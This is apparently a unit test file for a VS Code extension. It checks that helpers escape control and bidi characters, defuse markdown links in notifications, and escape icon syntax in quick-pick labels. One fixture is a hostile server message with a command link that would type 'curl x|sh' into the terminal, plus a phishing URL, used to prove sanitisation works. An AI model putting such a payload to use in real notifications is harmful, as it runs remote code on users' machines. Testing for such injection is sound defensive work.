import * as assert from 'node:assert/strict';
import { iconLabelText, notificationText, visibleName } from '../../../src/util/terminalText';

describe('text from a file or a server in VS Code labels and notifications', () => {
  it('visibleName shows controls and bidi as <U+XXXX>', () => {
    assert.equal(visibleName('a\u202eb\tc\x1b'), 'a<U+202E>b<U+0009>c<U+001B>');
  });

  it('notificationText leaves no [label](target) for a notification to turn into a link that runs a command', () => {
    const hostile =
      'HTTP 401: [Sign in again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D) or [docs](https://phish.example)';
    const shown = notificationText(hostile);
    // VS Code's linkedText.ts pattern for a notification link.
    assert.doesNotMatch(shown, /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)/i, shown);
    assert.equal(
      shown,
      'HTTP 401: [Sign in again] (command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D) or [docs] (https://phish.example)',
    );
    assert.equal(notificationText('model \u202ex'), 'model <U+202E>x');
  });

  it('iconLabelText shows $(name) as written in a quick pick instead of drawing an icon', () => {
    assert.equal(iconLabelText('$(zap) fast'), '\\$(zap) fast');
    assert.equal(iconLabelText('plain-model'), 'plain-model');
  });
});
